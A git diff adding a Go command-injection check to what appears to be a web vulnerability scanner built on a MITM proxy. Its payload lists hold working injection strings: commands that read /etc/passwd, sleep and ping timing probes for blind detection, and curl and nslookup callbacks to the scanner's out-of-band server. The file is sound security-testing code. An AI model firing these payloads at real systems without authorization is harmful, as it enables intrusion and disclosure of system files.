@@ -0,0 +1,179 @@
+package checks
+
+import (
+	"bytes"
+	"fmt"
+	"time"
+
+	"github.com/MatiXxD/go-mitm-proxy/internal/models"
+	"github.com/MatiXxD/go-mitm-proxy/pkg/oob"
+	"github.com/MatiXxD/go-mitm-proxy/pkg/scanner"
+)
+
+var cmdiPayloads = []string{
+	";cat /etc/passwd;",
+	"|cat /etc/passwd|",
+	"`cat /etc/passwd`",
+}
+
+var cmdiMarkers = []string{
+	"root:",
+}
+
+// cmdiHTTPPayloads and cmdiDNSPayloads make the host call the out-of-band
+// server, they take its URL or domain.
+var (
+	cmdiHTTPPayloads = []string{
+		";curl %s;",
+		"|curl %s|",
+		"$(curl %s)",
+	}
+	cmdiDNSPayloads = []string{
+		";nslookup %s;",
+		"&nslookup %s&",
+	}
+)
+
+// cmdiSleeps make the shell sleep for the given number of seconds, extra
+// is added to it for commands which wait one second less.
+var cmdiSleeps = []struct {
+	shell  string
+	format string
+	extra  int
+}{
+	{"unix", ";sleep %d;", 0},
+	{"unix", "$(sleep %d)", 0},
+	{"unix", "`sleep %d`", 0},
+	{"unix", ";ping -c %d 127.0.0.1;", 1},
+	{"unix", ";timeout %d tail -f /dev/null;", 0},
+	{"windows", "&ping -n %d 127.0.0.1&", 1},
+	{"windows", "&timeout /t %d /nobreak&", 0},
+}
+
+const (
+	// cmdiControls is the number of requests with the original value, they
+	// measure latency of the host for time-based payloads.
+	cmdiControls = 2
+)
+
+// cmdiMutation is a time-based payload, or a control request when sleep
+// is negative.
+type cmdiMutation struct {
+	sleep int
+	delay time.Duration
+}
+
+// CommandInjection appends shell commands printing /etc/passwd to the value
+// and looks for its content in the response. Commands sleeping for the
+// delay, twice as long and the delay again confirm blind injections. With
+// the out-of-band server it also sends commands calling it, they are
+// reported when the call comes.
+type CommandInjection struct {
+	payloads []string
+	markers  []string
+	delay    int
+	oob      *oob.Server
+}
+
+// NewCommandInjection takes nil server when out-of-band payloads are off.
+func NewCommandInjection(delay time.Duration, srv *oob.Server) *CommandInjection {
+	return &CommandInjection{
+		payloads: cmdiPayloads,
+		markers:  cmdiMarkers,
+		delay:    max(int(delay/time.Second), 1),
+		oob:      srv,
+	}
+}
+
+func (c *CommandInjection) ID() string   { return "cmdi" }
+func (c *CommandInjection) Name() string { return "OS command injection" }
+
+func (c *CommandInjection) Mutations(point *scanner.Point, _ *scanner.Response) []*scanner.Mutation {
+	mutations := make([]*scanner.Mutation, len(c.payloads))
+	for i, p := range c.payloads {
+		mutations[i] = &scanner.Mutation{Payload: point.Original + p}
+	}
+
+	for range cmdiControls {
+		mutations = append(mutations, &scanner.Mutation{
+			Payload: point.Original,
+			Data:    &cmdiMutation{sleep: -1},
+		})
+	}
+	for i, sleep := range cmdiSleeps {
+		for _, seconds := range []int{c.delay, 2 * c.delay, c.delay} {
+			mutations = append(mutations, &scanner.Mutation{
+				Payload: point.Original + fmt.Sprintf(sleep.format, seconds+sleep.extra),
+				Data:    &cmdiMutation{sleep: i, delay: time.Duration(seconds) * time.Second},
+			})
+		}
+	}
+
+	if c.oob.HTTP() {
+		for _, p := range cmdiHTTPPayloads {
+			mutations = append(mutations, c.oobMutation(point, p, c.oob.URL))
+		}
+	}
+	if c.oob.DNS() {
+		for _, p := range cmdiDNSPayloads {
+			mutations = append(mutations, c.oobMutation(point, p, c.oob.Domain))
+		}
+	}
+	return mutations
+}
+
+// oobMutation makes payload calling the unique address and tracks it.
+func (c *CommandInjection) oobMutation(point *scanner.Point, format string, address func(id string) string) *scanner.Mutation {
+	id := c.oob.NewID()
+	payload := point.Original + fmt.Sprintf(format, address(id))
+	c.oob.Track(id, point.ScanID, scanner.NewFinding(c, point, models.SeverityHigh, payload, ""))
+	return &scanner.Mutation{Payload: payload}
+}
+
+// Evaluate ignores markers which are already in the baseline response, the
+// page may just show such text. Time-based payloads are checked only when
+// no output is found.
+func (c *CommandInjection) Evaluate(point *scanner.Point, baseline *scanner.Response, results []*scanner.Result) []*models.Finding {
+	for _, res := range results {
+		if res.Response == nil {
+			continue
+		}
+		for _, marker := range c.markers {
+			m := []byte(marker)
+			if bytes.Contains(baseline.Body, m) {
+				continue
+			}
+			if evidence := scanner.Evidence(res.Response.Body, m); evidence != "" {
+				f := scanner.NewFinding(c, point, models.SeverityHigh, res.Mutation.Payload, evidence)
+				f.Detail = "command output"
+				return []*models.Finding{f}
+			}
+		}
+	}
+
+	// every request without sleep is a control
+	controls := []time.Duration{baseline.Duration}
+	timings := make([][]timing, len(cmdiSleeps))
+	payloads := make([]string, len(cmdiSleeps))
+	for _, res := range results {
+		if res.Response == nil {
+			continue
+		}
+		m, ok := res.Mutation.Data.(*cmdiMutation)
+		if !ok || m.sleep < 0 {
+			controls = append(controls, res.Response.Duration)
+			continue
+		}
+		timings[m.sleep] = append(timings[m.sleep], timing{delay: m.delay, took: res.Response.Duration})
+		payloads[m.sleep] = res.Mutation.Payload
+	}
+
+	for i, sleep := range cmdiSleeps {
+		if delayConfirmed(controls, timings[i]) {
+			f := scanner.NewFinding(c, point, models.SeverityHigh, payloads[i], delayEvidence(timings[i]))
+			f.Detail = "time-based, " + sleep.shell + " shell"
+			return []*models.Finding{f}
+		}
+	}
+	return nil
+}